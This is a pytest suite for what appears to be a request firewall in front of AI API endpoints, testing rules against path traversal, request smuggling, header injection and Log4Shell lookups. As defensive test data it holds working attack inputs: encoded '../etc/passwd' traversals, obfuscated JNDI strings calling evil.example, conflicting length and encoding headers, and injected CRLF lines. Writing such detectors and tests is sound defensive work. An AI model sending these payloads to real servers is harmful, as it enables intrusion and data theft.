"""Heads of requests: what each rule finds and spares, what the form says, and that no head takes long or raises."""

from __future__ import annotations

import time
import tomllib
from importlib.resources import files
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ringwall.detectors.request_rules import (
    KINDS,
    MAX_DECODES,
    SCRIPTED,
    RequestRules,
    head_of,
    parse_rules,
    read,
    warm,
)
from ringwall.model.errors import ConfigError
from ringwall.model.facts import RequestHead

OWN = files("ringwall.detectors").joinpath("data", "request_firewall.toml").read_text("utf-8")
TABLES = tomllib.loads(OWN)
RULES = {engine: RequestRules(engine=engine) for engine in ("hyperscan", "re2")}
PLAIN = (
    ("host", "127.0.0.1:8080"), ("accept", "application/json"), ("accept-encoding", "gzip, deflate, br, zstd"),
    ("connection", "keep-alive"), ("content-type", "application/json"), ("user-agent", "OpenAI/Python 2.8.0"),
    ("x-stainless-lang", "python"), ("x-stainless-runtime-version", "3.11.7"), ("content-length", "2048"),
)  # fmt: skip


def chat(*headers: tuple[str, str], path: str = "/v1/chat/completions", query: str = "") -> RequestHead:
    return RequestHead("POST", path, query, headers or PLAIN, 2048)


def kinds(head: RequestHead, engine: str = "hyperscan") -> set[str]:
    return {match.kind for match in RULES[engine].judge(head)}


@pytest.mark.parametrize("engine", RULES)
@pytest.mark.parametrize("rule", TABLES)
def test_every_rule_finds_its_examples_and_spares_the_rest(rule: str, engine: str) -> None:
    for example in TABLES[rule]["examples"]:
        assert rule in {match.rule for match in RULES[engine].judge(head_of(example))}, example
    for spared in TABLES[rule]["spared"]:
        assert kinds(head_of(spared), engine) <= {SCRIPTED}, spared


def test_our_own_rules_are_a_pack_that_would_be_taken() -> None:
    assert {rule.pattern.id for rule in parse_rules(OWN, "own.toml")} == set(TABLES)
    assert {table["kind"] for table in TABLES.values()} <= set(KINDS)
    warm()


STOCK = {
    "openai-python": "OpenAI/Python 2.8.0",
    "openai-python, async": "AsyncOpenAI/Python 2.8.0",
    "openai-node": "OpenAI/JS 6.9.0",
    "anthropic": "Anthropic/Python 0.75.0",
    "boto3": "Boto3/1.42.0 md/Botocore#1.42.0 ua/2.1 os/linux#6.1.0 md/arch#x86_64 lang/python#3.11.7",
    "a browser": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0",
    "another browser": "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "a phone in Indonesian": "Mozilla/5.0 (Linux; Android 14; id-id; SM-G991B) AppleWebKit/537.36 Mobile Safari/537.36",
    "a bot of one's own": "acme-support-bot/1.0",
}


@pytest.mark.parametrize("name", STOCK)
def test_stock_clients_show_no_sign(name: str) -> None:
    headers = [each for each in PLAIN if each[0] != "user-agent"]
    assert kinds(chat(*headers, ("user-agent", STOCK[name]))) == set()


@pytest.mark.parametrize(
    "client", ["curl/8.5.0", "python-requests/2.32.3", "python-httpx/0.28.1", "Go-http-client/1.1"]
)
def test_general_programs_are_scripted_clients_and_no_scanners(client: str) -> None:
    assert kinds(chat(("user-agent", client))) == {SCRIPTED}


def test_what_a_trace_and_a_proxy_add_is_no_sign() -> None:
    head = chat(
        *PLAIN,
        ("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
        ("tracestate", "vendor=t61rcWkgMzE,other=00f067aa0ba902b7"),
        ("baggage", "userId=Am%C3%A9lie%20Dupont,isProduction=false"),
        ("x-forwarded-for", "192.0.2.1, 198.51.100.7"),
        ("x-forwarded-for", "198.51.100.8"),
        ("x-forwarded-proto", "https"),
        ("via", "1.1 vegur, 1.1 proxy.example"),
        ("http-referer", "https://shop.example/search?q=a%20tent&page=2"),
        ("x-title", "Möbel & Küche: costs $5 {net} (it's cheap)"),
        ("openai-organization", "org-a1b2c3"),
        ("idempotency-key", "stainless-python-retry-8d0a7d3c-1f3a-4a0b-9f39-0f9c2b6c1b11"),
        ("x-portkey-config", '{"strategy": {"mode": "fallback"}, "targets": [{"name": "a", "or": "b = c"}]}'),
        ("x-meta", '{"a":{"b":["c", 1]}, "d": "{e}"}'),
        ("x-agent", "crew/1.2 (linux; python 3.11.7; perl)"),
        ("ringwall-note", "please select all the rows and order them by date; then drop me a line"),
    )
    assert kinds(head) == set()


ENCODED = {
    "once": quote("../../../etc/passwd", safe=""),
    "twice": quote(quote("../../../etc/passwd", safe=""), safe=""),
    "as IIS reads it": "%u002e%u002e/%u002e%u002e/etc/passwd",
    "overlong": "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "fullwidth": "%ef%bc%8e%ef%bc%8e/%ef%bc%8e%ef%bc%8e/etc/passwd",
    "every character": "".join(f"%{ord(each):02X}" for each in "../../etc/passwd"),
    "with backslashes": "..%5c..%5cetc%5cpasswd",
}


@pytest.mark.parametrize("engine", RULES)
@pytest.mark.parametrize("name", ENCODED)
def test_traversal_in_any_encoding(name: str, engine: str) -> None:
    assert "path_traversal" in kinds(head_of(f"/v1/models?file={ENCODED[name]}"), engine)
    assert "path_traversal" in kinds(head_of(f"/v1/{ENCODED[name]}"), engine)


def test_a_path_that_is_encoded_twice_is_a_sign_by_itself() -> None:
    assert "too_deeply_encoded" in kinds(head_of("/v1/ch%2561t/completions"))
    assert kinds(head_of("/v1/ch%61t/completions")) == set()


def test_what_is_encoded_deeper_than_anybody_looks_is_a_sign() -> None:
    text = "../etc/passwd"
    for _ in range(MAX_DECODES + 2):
        text = quote(text, safe="") if "%" not in text else text.replace("%", "%25")
    assert "too_deeply_encoded" in kinds(chat(query=f"f={text}"))
    assert read(text.encode())[1] is True


SMUGGLED = {
    "two lengths": (("content-length", "5"), ("content-length", "6")),
    "length and chunks": (("content-length", "5"), ("transfer-encoding", "chunked")),
    "another coding first": (("transfer-encoding", "gzip, chunked"),),
    "a coding nobody knows": (("transfer-encoding", "xchunked"),),
    "chunks twice": (("transfer-encoding", "chunked"), ("transfer-encoding", "chunked")),
    "a coding behind a tab": (("transfer-encoding", "\x0bchunked"),),
    "a length with a sign": (("content-length", "+5"),),
    "a length in another script": (("content-length", "٥"),),
    "two hosts": (("host", "a.example"), ("host", "b.example")),
    "two types of content": (("content-type", "application/json"), ("content-type", "text/plain")),
    "a host with a path": (("host", "a.example/admin"),),
    "a host with a user": (("host", "a.example@evil.example"),),
    "length with an underscore": (("content_length", "5"),),
    "a blank in the name": (("content-length ", "5"),),
    "cleartext upgrade": (("upgrade", "h2c"), ("http2-settings", "AAMAAABkAAQAAP__")),
    "hop by hop": (("connection", "close, x-forwarded-for"),),
    "another path": (("x-original-url", "/admin"),),
    "a request inside": (("x-note", "0 GET /admin HTTP/1.1"),),
}


@pytest.mark.parametrize("engine", RULES)
@pytest.mark.parametrize("name", SMUGGLED)
def test_signs_of_smuggling(name: str, engine: str) -> None:
    assert "request_smuggling" in kinds(chat(*SMUGGLED[name]), engine)


@pytest.mark.parametrize("value", ["a\r\nx-admin: yes", "a\nb", "a\rb", "a\0b", "a%0d%0aSet-Cookie: b=c", "a%00b"])
def test_a_header_that_is_more_than_one(value: str) -> None:
    assert "header_injection" in kinds(chat(("x-note", value)))


JNDI = (
    "${jndi:ldap://evil.example/a}", "${${lower:j}${lower:n}di:ldap://e/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://e}",
    "${jndi:${lower:l}${lower:d}ap://e}", "${${env:X:-j}ndi:dns://e}", "%24%7Bjndi:ldap://e%7D", "$%7bjndi:ldap://e/a%7d",
)  # fmt: skip


@pytest.mark.parametrize("value", JNDI)
@pytest.mark.parametrize("where", ["x-api-version", "user-agent", "query"])
def test_lookups_of_log4shell(value: str, where: str) -> None:
    head = chat(query=value) if where == "query" else chat((where, value))
    assert "lookup_injection" in kinds(head)


PACK = """
[own_path]
kind = "own_rule"
where = ["target"]
regex = "/internal/"
examples = ["/w/shop/internal/x"]
spared = ["/v1/models"]

[partner]
kind = "scraper"
where = ["header"]
score = 0.5
regex = '''\\nx-partner: bad'''
examples = ["X-Partner: bad"]
"""


def test_a_pack_stands_beside_our_own_rules() -> None:
    rules = RequestRules([("own.toml", PACK)])
    assert {match.rule for match in rules.judge(head_of("/internal/x?f=/etc/passwd"))} == {
        "own_path",
        "traversal_files",
    }
    [match] = rules.judge(head_of("X-Partner: bad"))
    assert (match.kind, match.rule, match.score) == ("scraper", "partner", 0.5)
    assert rules.judge(chat()) == ()


BAD_PACKS = {
    "not TOML": ("[a]\nkind = \n", 2, "TOML"),
    "a rule that is no table": ("a = 1", None, "not a table"),
    "an unknown field": ('[a]\nkind = "own_rule"\nwher = ["target"]', 1, "wher"),
    "an unknown kind": ('\n[a]\nkind = "bad"\nwhere = ["target"]\nregex = "x"\nexamples = ["/x"]', 2, "bad"),
    "an unknown place": ('[a]\nkind = "own_rule"\nwhere = ["body"]\nregex = "x"\nexamples = ["/x"]', 1, "places"),
    "no place": ('[a]\nkind = "own_rule"\nwhere = []\nregex = "x"\nexamples = ["/x"]', 1, "places"),
    "no expression": ('[a]\nkind = "own_rule"\nwhere = ["target"]\nexamples = ["/x"]', 1, "regex"),
    "an expression too long": (
        f'[a]\nkind = "own_rule"\nwhere = ["target"]\nregex = "{"x" * 5000}"\nexamples = ["/x"]', 1, "regex",
    ),
    "no example": ('[a]\nkind = "own_rule"\nwhere = ["target"]\nregex = "x"', 1, "examples"),
    "a score that is none": (
        '[a]\nkind = "own_rule"\nwhere = ["target"]\nregex = "x"\nscore = nan\nexamples = ["/x"]', 1, "score",
    ),
    "an open bracket": (
        f'{PACK}\n[broken]\nkind = "own_rule"\nwhere = ["target"]\nregex = "(x"\nexamples = ["/x"]', 16, "compile",
    ),
    "a look-ahead": ('[a]\nkind = "own_rule"\nwhere = ["target"]\nregex = "x(?=y)"\nexamples = ["/xy"]', 1, "compile"),
    "a bomb": (
        '[a]\nkind = "own_rule"\nwhere = ["target"]\nregex = "((x{1,100}){1,100}){1,100}"\nexamples = ["/x"]',
        1, "compile",
    ),
    "an example that is not found": (
        '[a]\nkind = "own_rule"\nwhere = ["target"]\nregex = "X"\nexamples = ["/x"]', 1, "does not find",
    ),
    "a near miss that is found": (
        '[a]\nkind = "own_rule"\nwhere = ["target"]\nregex = "x"\nexamples = ["/x"]\nspared = ["/xy"]', 1, "spare",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", BAD_PACKS)
def test_a_pack_that_cannot_be_taken_is_named_with_its_line(name: str) -> None:
    text, line, said = BAD_PACKS[name]
    began = time.process_time()
    with pytest.raises(ConfigError, match=said) as error:
        RequestRules([("own.toml", text)])
    assert (error.value.file, error.value.line) == ("own.toml", line)
    assert time.process_time() - began < 2.0


HEADS = st.builds(
    RequestHead,
    st.sampled_from(("GET", "POST", "TRACE", "\0")),
    st.text(st.characters(), max_size=200).map("/".__add__),
    st.text(st.characters(max_codepoint=255), max_size=200),
    st.lists(
        st.tuples(
            st.sampled_from(("host", "user-agent", "x", "content-length", "transfer-encoding", "", "a\nb"))
            | st.text(max_size=8),
            st.text(max_size=100)
            | st.sampled_from(("%" * 50, "%25" * 30, "${" * 40, "{{" * 40, "\udcff%u00", "%c0%ae")),
        ),
        max_size=20,
    ).map(tuple),
    st.integers(0, 10),
)


@settings(deadline=None, max_examples=400)
@given(HEADS)
def test_no_head_raises_and_both_engines_see_the_same(head: RequestHead) -> None:
    found = RULES["hyperscan"].judge(head)
    assert set(found) == set(RULES["re2"].judge(head))
    assert {match.kind for match in found} <= set(KINDS)


@pytest.mark.parametrize("text", ["\ud800", "a\udcff", "\udc00", "漢字", "\x85"])
def test_half_of_a_surrogate_pair_is_no_way_out(text: str) -> None:
    head = RequestHead("POST", f"/{text}/../../etc/passwd", text, ((text, text), ("x", f"{text}${{jndi:ldap://e}}")), 0)
    assert {"path_traversal", "lookup_injection"} <= kinds(head)


def test_bytes_outside_ascii_are_read_as_they_came() -> None:
    overlong, fullwidth = b"\xc0\xae\xc0\xae/etc/passwd".decode("latin-1"), "．．/etc/passwd".encode().decode("latin-1")
    for value in (overlong, fullwidth):
        assert "traversal_dots" in {match.rule for match in RULES["hyperscan"].judge(chat(query=f"f={value}"))}
    assert "lookup_injection" in kinds(chat(("x", "＄｛jndi:ldap://e｝".encode().decode("latin-1"))))


WORDS = st.text("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_.", max_size=40)


@settings(deadline=None, max_examples=300)
@given(st.lists(st.tuples(WORDS.map(lambda word: f"x-app-{word.lower()}"), WORDS), max_size=30), WORDS)
def test_plain_words_in_headers_and_query_show_no_sign(headers: list[tuple[str, str]], value: str) -> None:
    plain = [(name.replace(".", "-").replace("_", "-"), text) for name, text in headers]
    assert kinds(chat(*PLAIN, *plain, query=f"version={value}")) == set()


@pytest.mark.parametrize(
    "unit", ["%25", "%", "${", "{{", "../", "' or ", "a", "%c0%ae", "\n", ";cat ", "é", "($)", "%u00"]
)
def test_time_is_linear_in_the_head(unit: str) -> None:
    def cost(size: int) -> float:
        head = chat(
            ("x", unit * (size // len(unit))), query="q=" + unit.encode().decode("latin-1") * (size // len(unit))
        )
        best = float("inf")
        for _ in range(3):
            began = time.process_time()
            RULES["hyperscan"].judge(head)
            best = min(best, time.process_time() - began)
        return best

    # Eight times as much may take eight times as long, and as much again for the noise of a busy machine.
    small, large = cost(8192), cost(65_536)
    assert large < 16 * small + 0.02
